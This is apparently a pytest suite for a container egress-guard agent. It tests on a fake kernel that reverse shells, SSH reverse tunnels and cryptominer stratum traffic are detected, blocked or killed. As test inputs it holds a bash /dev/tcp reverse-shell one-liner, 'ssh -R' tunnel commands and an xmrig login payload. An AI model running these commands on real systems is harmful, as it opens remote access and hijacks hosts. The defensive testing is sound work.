# SPDX-License-Identifier: Apache-2.0
"""The agent's record path without root, on the fake kernel (tests/fakekernel.py):
records in, verdicts in the maps, signals recorded, events out."""
from __future__ import annotations

import ast
import inspect
import os
import re
import signal
from pathlib import Path

import pytest

from guard.kernel import abi
from guard.kernel.abi import Action, CgroupOp, EventKind, Proto, SampleKind
from guard.respond.responder import Responder
from guard.kernel.objects import GuardObjects
from guard.detect.files import CONFIG_READ_MAX, ProcessFiles
from guard.kernel.records import decode
from guard.kernel.maps import Maps
from guard.workloads.process import ProcessInfo
from tests.fakekernel import (FAKE_PID, FakeFiles, FakeMaps, FakeObjects, cgroup_record,
                              connect_record, exec_record, fake_agent, payload_record,
                              socket_record, stdio_socket_record)
from tests.fakekernel import kernel, signals  # noqa: F401 - fixtures

ROOT = Path(__file__).resolve().parents[2]
XMRIG_LOGIN = (ROOT / "tests/fixtures/payloads/cryptonote-login.xmrig.bin").read_bytes()
PODMAN = "/machine.slice/libpod-" + "ab" * 32 + ".scope"


def policy(*, egress: str = "", **detections: str) -> str:
    return ("apiVersion: egress-guard/v1\nkind: EgressPolicy\nmetadata:\n  name: t\nspec:\n"
            "  defaultAction: log\n" + egress
            + "  detections:\n" + "".join(f"    {k}: {v}\n" for k, v in detections.items()))


def of_kind(events: list[dict], kind: str) -> list[dict]:
    return [e for e in events if e["kind"] == kind]


# --------------------------------------------------------------------------
# Records: what the fake writes is what decode() reads


HEADER = dict(ktime_ns=123_456_789, cgroup_id=4242, pid=31337, ppid=1, uid=1000,
              policy_id=0x101, comm="worker", action=Action.BLOCK, rule_id=7, start_ns=99)


def _header_of(record) -> dict:
    return {name: getattr(record.header, name) for name in HEADER}


def test_exec_records_round_trip():
    record = decode(exec_record(["ssh", "-R", "9000:localhost:22", "host"],
                                filename="/usr/bin/ssh", exe="/usr/bin/ssh.real", held=True,
                                exe_truncated=True, **HEADER))
    assert record.header.kind == EventKind.EXEC and _header_of(record) == HEADER
    assert record.argv == ["ssh", "-R", "9000:localhost:22", "host"]
    assert (record.filename, record.exe) == ("/usr/bin/ssh", "/usr/bin/ssh.real")
    assert record.held and record.exe_truncated and not record.argv_truncated


def test_exec_records_carry_workload_bytes_as_the_kernel_does():
    record = decode(exec_record([b"/bin/true", b"\xff\xfe", b"a\0b"]))
    assert record.argv == ["/bin/true", "\udcff\udcfe", "a", "b"]   # surrogateescape
    assert record.header.comm == "true"
    many = decode(exec_record(["x"] * 3000))                        # 6000 bytes of argv
    assert many.argv_truncated and len(many.argv) == abi.ARGV_MAX // 2
    long_path = decode(exec_record(["/" + "d" * 400]))
    assert long_path.filename == long_path.exe == ("/" + "d" * 400)[:abi.PATH_MAX - 1]


@pytest.mark.parametrize("ip, family, hook", [("198.18.0.2", 4, abi.Hook.CONNECT4),
                                               ("2001:db8::7", 6, abi.Hook.CONNECT6)])
def test_connect_records_round_trip(ip, family, hook):
    record = decode(connect_record(ip, 3333, **HEADER))
    assert record.header.kind == EventKind.CONNECT and _header_of(record) == HEADER
    assert (record.ip, record.port, record.family, record.proto, record.hook) == (
        ip, 3333, family, Proto.TCP, hook)
    udp = decode(connect_record(ip, 53, proto=Proto.UDP))
    assert udp.hook in (abi.Hook.SENDMSG4, abi.Hook.SENDMSG6)


def test_socket_records_round_trip():
    record = decode(socket_record(17, 3, 768, **HEADER))
    assert record.header.kind == EventKind.SOCKET and _header_of(record) == HEADER
    assert (record.family, record.type, record.protocol) == (17, 3, 768)


@pytest.mark.parametrize("op", list(CgroupOp))
def test_cgroup_records_round_trip(op):
    record = decode(cgroup_record(PODMAN, op, **HEADER))
    assert record.header.kind == EventKind.CGROUP and _header_of(record) == HEADER
    assert (record.op, record.path, record.level) == (op, PODMAN, 2)


@pytest.mark.parametrize("kind", list(SampleKind))
def test_payload_records_round_trip(kind):
    sample = XMRIG_LOGIN if kind != SampleKind.DNS_ANSWER else b"\x12\x34\x81\x80" + bytes(8)
    record = decode(payload_record(sample, kind=kind, ip="2001:db8::1", port=3333,
                                   cookie=2**64 - 1, held=True, **HEADER))
    assert record.header.kind == EventKind.PAYLOAD and _header_of(record) == HEADER
    assert (record.sample_kind, record.ip, record.port, record.cookie, record.family) == (
        kind, "2001:db8::1", 3333, 2**64 - 1, 6)
    assert record.sample == sample[:abi.SAMPLE_MAX] and record.held
    assert record.payload_size == len(sample)
    assert bool(record.flags & abi.PayloadFlags.TRUNCATED) == (len(sample) > abi.SAMPLE_MAX)


def test_stdio_socket_records_round_trip():
    record = decode(stdio_socket_record("198.18.0.9", 4444, oldfd=5, newfd=2, cookie=77,
                                        proto=Proto.UDP, **HEADER))
    assert record.header.kind == EventKind.STDIO_SOCKET and _header_of(record) == HEADER
    assert (record.ip, record.port, record.oldfd, record.newfd, record.cookie, record.proto,
            record.family) == ("198.18.0.9", 4444, 5, 2, 77, Proto.UDP, 4)


# --------------------------------------------------------------------------
# The fakes stay in step with what they stand in for


def _called_on(path: Path, owner: str) -> set[str]:
    """Names used as self.<owner>.<name> in a source file."""
    names = set()
    for node in ast.walk(ast.parse(path.read_text())):
        if (isinstance(node, ast.Attribute) and isinstance(node.value, ast.Attribute)
                and node.value.attr == owner and isinstance(node.value.value, ast.Name)
                and node.value.value.id == "self"):
            names.add(node.attr)
    return names


USERS = sorted((ROOT / "guard" / "agent").glob("*.py")) + [ROOT / "guard" / "respond" / "responder.py"]


def _compatible(real, fake) -> list[str]:
    """What a caller of real could pass that fake would refuse."""
    problems = []
    fake_params = inspect.signature(fake).parameters
    for name, param in inspect.signature(real).parameters.items():
        other = fake_params.get(name)
        if other is None:
            problems.append(f"no parameter {name}")
        elif other.kind != param.kind:
            problems.append(f"{name} is {other.kind.name}, not {param.kind.name}")
        elif param.default is not param.empty and other.default is other.empty:
            problems.append(f"{name} has no default")
    extra = [n for n, p in fake_params.items()
             if n not in inspect.signature(real).parameters and p.default is p.empty
             and p.kind not in (p.VAR_POSITIONAL, p.VAR_KEYWORD)]
    return problems + [f"extra required parameter {n}" for n in extra]


@pytest.mark.parametrize("real, fake, owner", [(Maps, FakeMaps(), "_maps"),
                                               (GuardObjects, FakeObjects(), "_objects")])
def test_the_fakes_have_what_the_agent_uses_with_compatible_signatures(real, fake, owner):
    used = set().union(*(_called_on(path, owner) for path in USERS))
    public = {name for name, member in inspect.getmembers(real)
              if not name.startswith("_")
              and (inspect.isfunction(member) or isinstance(member, property))}
    assert used, f"nothing found as self.{owner}.* in {USERS}"
    problems = {}
    for name in sorted(used | public):
        if not hasattr(fake, name):
            problems[name] = "missing from the fake"
            continue
        attr = inspect.getattr_static(real, name, None)
        if attr is None:            # an instance attribute of the real one (map_fds, adopted)
            if not re.search(rf"self\.{name}\b[^=\n]*=", inspect.getsource(real.__init__)):
                problems[name] = f"neither a member of {real.__name__} nor set by its __init__"
            continue
        if isinstance(attr, property) or not callable(attr):
            if not isinstance(inspect.getattr_static(type(fake), name, None), property) \
                    and callable(getattr(fake, name)):
                problems[name] = "a property there, a method here"
            continue
        mismatch = _compatible(getattr(real, name), getattr(type(fake), name))
        if mismatch:
            problems[name] = "; ".join(mismatch)
    assert not problems, problems


def test_fake_files_read_like_process_files():
    for name in ("read_file", "list_dir"):
        assert inspect.signature(getattr(FakeFiles, name)) == \
            inspect.signature(getattr(ProcessFiles, name)), name
    files = FakeFiles({"/etc/passwd": b"agent:x:1000:1000::/home/agent:/bin/sh\n",
                       "/home/agent/.ssh/config": b"Host *\n  RemoteForward 9000 localhost:22\n"},
                      cwd="/home/agent", uid=1000)
    assert (files.user, files.home) == ("agent", "/home/agent")
    assert files.read_file(".ssh/config").startswith(b"Host *")     # relative to cwd
    assert files.read_file("/dev/null") == b"" and files.read_file("/nope") is None
    assert files.list_dir("/home/agent/.ssh") == ["config"] and files.list_dir("/x") is None
    assert files.reads == ["/etc/passwd", ".ssh/config", "/dev/null", "/nope"]
    assert FakeFiles().home == "/root" and FakeFiles(uid=7).home == "/"


def test_fake_files_answer_as_process_files_do(tmp_path):
    """The same files, read by ProcessFiles in this process's own root."""
    contents = {"small": b"Host *\n", "empty": b"", "big": b"x" * (CONFIG_READ_MAX + 7)}
    for name, data in contents.items():
        (tmp_path / name).write_bytes(data)
    real = ProcessFiles(os.getpid())
    fake = FakeFiles({str(tmp_path / name): data for name, data in contents.items()})
    for name in [*contents, "missing"]:
        path = str(tmp_path / name)
        got, want = fake.read_file(path), real.read_file(path)
        assert got == want, name
        assert getattr(got, "truncated", False) == getattr(want, "truncated", False), name
    assert fake.list_dir(str(tmp_path)) == real.list_dir(str(tmp_path))


def test_fake_files_from_a_directory(tmp_path):
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc/passwd").write_bytes(b"root:x:0:0::/root:/bin/sh\n")
    (tmp_path / "escape").symlink_to("/etc/hostname")
    files = FakeFiles(tmp_path)
    assert files.read_file("/etc/passwd").startswith(b"root:") and files.user == "root"
    assert files.read_file("/escape") is None                      # never out of the root


def test_the_signal_sink_records_and_sends_nothing(signals):
    responder = Responder(FakeMaps(), FakeObjects())
    signals.default_cgroup = "/box"
    signals.cgroup_of[FAKE_PID + 1] = "/elsewhere"                  # a pid reused meanwhile
    signals.cgroup_of[FAKE_PID + 2] = None                          # gone
    assert responder.kill(FAKE_PID, "/box") is True
    assert responder.kill(FAKE_PID + 1, "/box") is False
    assert responder.resume(FAKE_PID + 2, "/box") is False
    assert responder.kill(1, None) is False                         # never init
    assert signals.sent == [(FAKE_PID, signal.SIGKILL)]


# --------------------------------------------------------------------------
# The agent's logic on the fake kernel


def test_ssh_reverse_tunnel_held_at_exec_is_blocked_and_resumed():
    with fake_agent(policy(sshReverseTunnel="block")) as fake:
        fake.maps.held[fake.pid] = 1                                # the kernel stopped it
        events = fake.exec(["ssh", "-R", "9000:localhost:22", "host"], held=True)
        assert fake.maps.blocked == {fake.pid: 7_000_000_000}      # its connects refused
        assert fake.signals.sent == [(fake.pid, signal.SIGCONT)]
        assert fake.maps.held == {} and fake.maps.called("release_held") == [(fake.pid,)]
        [exec_event] = of_kind(events, "exec")
        assert exec_event["process"]["argv"] == ["ssh", "-R", "9000:localhost:22", "host"]
        assert exec_event["cgroup"]["path"] == fake.cgroup.relative
        [detection] = of_kind(events, "detection")
        assert detection["action"] == "block"
        assert detection["detection"]["type"] == "ssh_reverse_tunnel"
        assert detection["detection"]["evidence"]["listen"] == {"port": 9000}
        assert detection["policy"] == {"name": "t", "generation": 1}


def test_a_reverse_shell_one_liner_is_killed_and_never_resumed():
    with fake_agent(policy(reverseShell="kill")) as fake:
        fake.maps.held[fake.pid] = 1
        events = fake.exec(["bash", "-c", "bash -i >& /dev/tcp/198.18.0.9/4444 0>&1"],
                           held=True)
        assert signal.SIGKILL in fake.signals.signals_to(fake.pid)
        assert signal.SIGCONT not in fake.signals.signals_to(fake.pid)
        assert fake.maps.held == {}
        [detection] = of_kind(events, "detection")
        assert (detection["action"], detection["detection"]["type"]) == ("kill", "reverse_shell")


def test_an_innocent_exec_is_resumed_and_only_reported():
    with fake_agent() as fake:
        fake.maps.held[fake.pid] = 1
        events = fake.exec(["python3", "-c", "print('socket')"], held=True)
        assert fake.signals.sent == [(fake.pid, signal.SIGCONT)]
        assert [e["kind"] for e in events] == ["exec"] and not fake.maps.blocked


def test_an_xmrig_login_held_as_a_first_payload_is_blocked_and_reset():
    with fake_agent(policy(stratum="block")) as fake:
        events = fake.payload(XMRIG_LOGIN, held=True, port=3333, cookie=0xF00D)
        assert fake.maps.flow_actions == {0xF00D: Action.BLOCK}
        assert fake.maps.resets == [0xF00D] and fake.objects.socket_resets == 1
        assert fake.signals.netns_runs == [fake.pid] and fake.signals.sent == []
        [detection] = of_kind(events, "detection")
        assert (detection["action"], detection["detection"]["type"]) == ("block", "stratum")
        assert detection["dst"] == {"ip": "198.18.0.2", "port": 3333, "proto": "tcp"}


def test_kill_comes_before_the_reset():
    """A reset wakes the sender: it must be dead by then."""
    with fake_agent(policy(stratum="kill")) as fake:
        fake.payload(XMRIG_LOGIN, held=True, cookie=5)
        steps = [step for step, _ in fake.timeline]
        assert steps.index("signal") < steps.index("maps.flow_verdict") \
            < steps.index("maps.request_reset") < steps.index("objects.run_socket_reset")
        assert fake.signals.sent == [(fake.pid, signal.SIGKILL)]


def test_benign_first_payloads_are_allowed_in_one_batch():
    with fake_agent() as fake:
        fake.push(*(payload_record(b"GET / HTTP/1.1\r\nHost: a.test\r\n\r\n", cookie=c,
                                   **fake.defaults({})) for c in (1, 2, 3)))
        assert fake.maps.called("flow_verdicts") == [([1, 2, 3], Action.ALLOW)]
        assert fake.maps.called("flow_verdict") == [] and fake.new_events() == []


def test_a_pool_reply_on_a_flow_let_through_resets_it():
    with fake_agent(policy(stratum="block")) as fake:
        first = b'{"id":1,"jsonrpc":"2.0","method":"getjob","params":{}}\n'
        assert fake.payload(first, port=9000, cookie=11) == []
        assert fake.maps.flow_actions == {11: Action.ALLOW}
        events = fake.payload(b'{"id":null,"method":"mining.notify","params":[]}\n',
                              kind=SampleKind.INBOUND, port=9000, cookie=11)
        [detection] = of_kind(events, "detection")
        assert detection["action"] == "block"
        assert detection["detection"]["dialect"] == "stratum-reply"
        assert fake.maps.resets == [11]


def test_a_connect_event_names_its_rule():
    egress = ("  egress:\n    - name: no-pool-port\n      action: block\n      to:\n"
              "        - cidr: 198.18.0.0/15\n          ports: [3333]\n          protocol: tcp\n")
    with fake_agent(policy(egress=egress)) as fake:
        [event] = fake.connect("198.18.0.2", 3333, action=Action.BLOCK,
                               rule_id=fake.rule_id("no-pool-port"))
        assert (event["kind"], event["action"], event["rule"]) == ("connect", "block",
                                                                   "no-pool-port")
        assert event["dst"] == {"ip": "198.18.0.2", "port": 3333}
        assert (event["proto"], event["family"], event["hook"]) == ("tcp", "ipv4", "connect")
        assert event["policy"] == {"name": "t", "generation": 1}
        [detected] = fake.connect("198.18.0.3", 80, action=Action.BLOCK,
                                  rule_id=abi.RULE_DETECTION)
        assert detected["rule"] == "detection"


def test_a_raw_socket_event():
    with fake_agent() as fake:
        [event] = fake.socket(action=Action.BLOCK)
        assert event["kind"] == "socket" and event["action"] == "block"
        assert event["socket"] == {"family": "packet", "type": "raw", "protocol": 0}


def test_containers_are_guarded_as_they_appear_and_released_as_they_go():
    with fake_agent(cgroups=()) as fake:
        assert fake.agent.discover and fake.maps.watching and fake.maps.guarded == {}
        [guarded] = fake.mkdir(PODMAN)
        container_id = "ab" * 32
        assert (guarded["kind"], guarded["state"]) == ("container", "guarded")
        assert guarded["container"] == {"id": container_id, "runtime": "podman"}
        cgroup_id = guarded["cgroup"]["id"]
        assert guarded["cgroup"]["path"] == PODMAN
        assert fake.maps.guarded == {cgroup_id: 0}
        assert fake.objects.cgroups == {cgroup_id: str(fake.tree.mount) + PODMAN}
        assert fake.metadata.requested == [container_id]
        assert fake.mkdir("/machine.slice/not-a-container") == []
        [released] = fake.rmdir(PODMAN)
        assert (released["state"], released["cgroup"]["id"]) == ("released", cgroup_id)
        assert fake.maps.guarded == {} and fake.objects.cgroups == {}
        assert fake.metadata.forgotten == [container_id]


def test_a_socket_on_stdio_under_block():
    with fake_agent(policy(reverseShell="block")) as fake:
        [tcp] = fake.stdio_socket(cookie=21, newfd=0)
        assert tcp["action"] == "block" and tcp["detection"]["evidence"]["stream"] == "stdin"
        assert fake.maps.resets == [21] and fake.maps.blocked == {fake.pid: 7_000_000_000}
        assert fake.signals.sent == []
        [udp] = fake.stdio_socket(cookie=22, proto=Proto.UDP, pid=FAKE_PID + 1)
        assert udp["action"] == "kill"                               # a UDP socket cannot be reset
        assert fake.signals.sent == [(FAKE_PID + 1, signal.SIGKILL)]


def test_a_pid_living_elsewhere_now_gets_no_signal():
    with fake_agent(policy(reverseShell="kill")) as fake:
        fake.signals.cgroup_of[fake.pid] = "/somebody-else"
        fake.exec(["bash", "-c", "bash -i >& /dev/tcp/198.18.0.9/4444 0>&1"], held=True)
        assert fake.signals.sent == []


def test_the_ssh_config_in_the_container_is_read():
    with fake_agent(policy(sshReverseTunnel="block")) as fake:
        fake.files[fake.pid] = FakeFiles(
            {"/etc/passwd": b"agent:x:1000:1000::/home/agent:/bin/sh\n",
             "/home/agent/.ssh/config": b"Host *\n  RemoteForward 9000 localhost:22\n"},
            cwd="/home/agent", uid=1000)
        events = fake.exec(["ssh", "-N", "git.test"], held=True)
        [detection] = of_kind(events, "detection")
        assert detection["detection"]["type"] == "ssh_reverse_tunnel"
        assert "/home/agent/.ssh/config" in fake.files[fake.pid].reads


def test_a_hold_whose_exec_record_was_lost_is_settled_by_the_watchdog():
    """Block needs the start time only the exec record has: kill instead."""
    with fake_agent(policy(sshReverseTunnel="block")) as fake:
        fake.maps.held[fake.pid] = 0                                # held since boot
        fake.processes[fake.pid] = ProcessInfo(
            "/usr/bin/ssh", ["ssh", "-R", "9000:localhost:22", "host"], False)
        assert fake.check_holds() == 1
        assert fake.signals.sent == [(fake.pid, signal.SIGKILL)] and fake.maps.held == {}
        [report] = of_kind(fake.tick(), "error")
        assert report["pid"] == fake.pid and report["done"] == "killed"
        assert fake.check_holds() == 0                              # settled once


def test_an_undecodable_record_is_reported_and_the_agent_goes_on():
    with fake_agent() as fake:
        [error] = fake.feed(b"\x63\x00\x00\x00" + bytes(100))
        assert error["kind"] == "error" and "unknown event kind 99" in error["error"]
        assert fake.agent.stats.decode_errors == 1
        assert [e["kind"] for e in fake.exec(["true"])] == ["exec"]


def test_stop_unguards_and_frees_everything():
    fake = fake_agent()
    with fake:
        cgroup_id = fake.cgroup.id
        assert fake.maps.guarded == {cgroup_id: 0}
        fake.agent.stop()
        assert fake.maps.guarded == {} and fake.maps.closed
        assert fake.objects.closed is False and fake.metadata.closed


def test_the_default_policy_is_installed_as_generation_one(kernel):
    assert kernel.maps.slots == {0: (1 << 8, 0)}
    assert kernel.maps.installed == [1 << 8]
    assert kernel.maps.anchors and kernel.maps.hold_timeout_ms == 5000
    assert kernel.objects.attached_global
    assert kernel.objects.cgroups == {kernel.cgroup.id: str(kernel.tree.mount)
                                      + kernel.cgroup.relative}
